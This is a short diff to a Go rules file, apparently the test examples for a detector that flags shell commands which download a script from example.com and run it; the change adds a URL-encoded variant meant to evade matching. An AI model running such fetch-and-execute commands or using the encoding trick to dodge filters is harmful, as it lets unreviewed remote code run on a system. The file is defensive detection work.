@@ -125,6 +125,7 @@ func Rules() []*Rule {
 				`curl -fsSL https://example.com/install.sh -o install.sh && bash install.sh`,
 				`wget https://example.com/setup.sh && sh setup.sh`,
 				`curl -o /tmp/x.sh https://example.com/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh`,
+				`wget https://example.com/set%75p.sh && sh setup.sh`,
 			},
 			Allow: []string{
 				`curl -o data.json https://example.com/data.json && jq . data.json`,
